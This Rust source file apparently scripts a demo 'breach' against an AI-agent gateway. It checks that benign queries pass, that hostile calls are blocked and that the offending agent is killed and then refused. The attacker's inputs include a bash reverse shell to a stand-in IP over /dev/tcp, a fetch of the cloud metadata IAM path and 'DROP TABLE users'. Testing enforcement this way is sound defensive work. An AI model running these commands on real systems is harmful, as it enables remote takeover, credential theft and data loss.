//! The breach: what is called in which order, and what should become of it.

use std::{thread, time::Duration};

use serde_json::{Value, json};

use super::cast::{Cast, Player};
use crate::{
    control_plane::{ControlPlane, text_of},
    error::CliError,
    http::path_segment,
    table::printable,
    time,
};

/// Between two calls when somebody watches.
pub(super) const PAUSE: Duration = Duration::from_millis(700);

/// Blocked calls of one agent after which we kill it, where the control plane does not.
const VIOLATIONS: u32 = 3;
/// The most that are played for a control plane that kills by itself.
const VIOLATIONS_MAX: u32 = 20;

/// The control plane kills when the gateway's events have reached it, a moment after the call.
const LOOKS_MAX: u32 = 50;
const LOOK_INTERVAL: Duration = Duration::from_millis(100);

/// The gateway learns of a kill within a second; a call takes a few milliseconds.
const CALLS_AFTER_KILL_MAX: u32 = 200;

/// A call, or a kill, and what came of it.
#[derive(Debug)]
pub(super) struct Told {
    at: u64,
    who: &'static str,
    what: String,
    wanted: &'static str,
    became: String,
}

impl Told {
    /// Whether it became what it should.
    pub(super) fn is_met(&self) -> bool {
        self.became.split(' ').next() == Some(self.wanted)
    }

    /// On one line.
    pub(super) fn line(&self) -> String {
        let mark = if self.is_met() { '✓' } else { '✗' };
        let at = time::time_of_day(self.at);
        format!(
            "{mark} {at} {:14} {:64} {}",
            self.who,
            printable(&self.what),
            printable(&self.became)
        )
    }
}

/// Plays the breach and tells each step.
pub(super) fn play(
    cast: &Cast,
    control_plane: &ControlPlane,
    mut tell: impl FnMut(Told) -> Result<(), CliError>,
) -> Result<(), CliError> {
    let upstream = cast.upstream.as_str();
    let sql = |sql: &str| json!({ "sql": sql });
    let calls: [(&Player, &str, Value, &'static str); 4] = [
        (
            &cast.scout,
            "database.query",
            sql("SELECT name FROM users"),
            "ALLOW",
        ),
        (
            &cast.exec,
            "database.query",
            sql("SELECT count(*) FROM users"),
            "ALLOW",
        ),
        (
            &cast.exec,
            "database.query",
            sql("DROP TABLE users"),
            "BLOCK",
        ),
        (
            &cast.scout,
            "database.query",
            sql("SELECT id, name FROM users ORDER BY name"),
            "ALLOW",
        ),
    ];
    for (player, tool, params, wanted) in calls {
        tell(call(player, tool, &params, upstream, wanted)?)?;
    }
    let attempts = [
        (
            "http.fetch",
            json!({ "url": "http://169.254.169.254/latest/meta-data/iam/" }),
        ),
        (
            "shell.exec",
            json!({ "command": "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1" }),
        ),
        ("database.query", sql("DROP TABLE users")),
    ];
    let by_itself = kills_after(control_plane)?;
    let violations = by_itself.unwrap_or(VIOLATIONS);
    for (_, (tool, params)) in (0..violations).zip(attempts.iter().cycle()) {
        tell(call(&cast.attacker, tool, params, "", "BLOCK")?)?;
    }
    tell(match by_itself {
        Some(_) => is_killed(&cast.attacker, violations, control_plane)?,
        None => kill(&cast.attacker, control_plane)?,
    })?;
    tell(after_the_kill(&cast.attacker)?)?;
    let last = sql("SELECT name FROM users");
    tell(call(
        &cast.scout,
        "database.query",
        &last,
        upstream,
        "ALLOW",
    )?)
}

fn call(
    player: &Player,
    tool: &str,
    params: &Value,
    upstream: &str,
    wanted: &'static str,
) -> Result<Told, CliError> {
    let body = json!({ "tool": tool, "params": params, "target_url": upstream });
    let answer = player.gateway.post("/v1/proxy", &body)?.json()?;
    let became = match answer.get("allowed").and_then(Value::as_bool) {
        Some(true) if upstream.is_empty() => "ALLOW".to_owned(),
        Some(true) => "ALLOW forwarded".to_owned(),
        Some(false) => format!("BLOCK {}", text_of(&answer, "denial_reason")),
        None => format!("REFUSED {}", text_of(&answer, "error_code")),
    };
    let params = params.as_object().and_then(|params| params.values().next());
    let text = params.and_then(Value::as_str).unwrap_or_default();
    Ok(Told {
        at: time::unix_seconds(),
        who: player.name,
        what: format!("{tool} {text}"),
        wanted,
        became,
    })
}

/// After how many blocked calls the control plane kills by itself, where that is few enough.
fn kills_after(control_plane: &ControlPlane) -> Result<Option<u32>, CliError> {
    let answer = control_plane.ask("/v1/automatic-kill")?;
    if !answer.is_success() {
        return Ok(None);
    }
    let calls = answer.json()?.get("blocked_calls").and_then(Value::as_u64);
    let calls = calls.and_then(|calls| u32::try_from(calls).ok());
    Ok(calls.filter(|calls| (1..=VIOLATIONS_MAX).contains(calls)))
}

/// Waits until the control plane has killed the agent by itself.
fn is_killed(
    player: &Player,
    violations: u32,
    control_plane: &ControlPlane,
) -> Result<Told, CliError> {
    let path = format!("/v1/agents/{}", path_segment(&player.id));
    let mut state = String::new();
    for _ in 0..LOOKS_MAX {
        text_of(&control_plane.get(&path)?, "state").clone_into(&mut state);
        if state == "killed" {
            break;
        }
        thread::sleep(LOOK_INTERVAL);
    }
    Ok(killed(player, violations, "by the control plane", &state))
}

fn kill(player: &Player, control_plane: &ControlPlane) -> Result<Told, CliError> {
    let path = format!("/v1/agents/{}/kill", path_segment(&player.id));
    let order = json!({ "reason": "breach_detected", "cascade": true });
    let obeyed = control_plane.post(&path, &order)?;
    Ok(killed(
        player,
        VIOLATIONS,
        "by order",
        text_of(&obeyed, "state"),
    ))
}

fn killed(player: &Player, violations: u32, how: &str, state: &str) -> Told {
    let became = if state == "killed" {
        format!("KILLED {how}")
    } else {
        state.to_owned()
    };
    Told {
        at: time::unix_seconds(),
        who: player.name,
        what: format!("{violations} violations: automatic kill cascade"),
        wanted: "KILLED",
        became,
    }
}

/// Calls in the killed agent's name until it is refused.
fn after_the_kill(player: &Player) -> Result<Told, CliError> {
    let params = json!({ "sql": "SELECT name FROM users" });
    let mut told = call(player, "database.query", &params, "", "REFUSED")?;
    for _ in 0..CALLS_AFTER_KILL_MAX {
        if told.is_met() {
            break;
        }
        told = call(player, "database.query", &params, "", "REFUSED")?;
    }
    Ok(told)
}
